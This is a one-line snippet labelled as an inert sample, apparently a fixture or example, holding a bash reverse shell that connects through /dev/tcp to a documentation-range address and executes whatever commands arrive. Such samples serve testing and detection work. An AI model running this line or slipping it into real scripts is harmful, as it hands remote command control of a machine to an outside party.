# sample (inert)
exec 5<>/dev/tcp/203.0.113.10/443; cat <&5 | while read l; do $l 2>&5 >&5; done
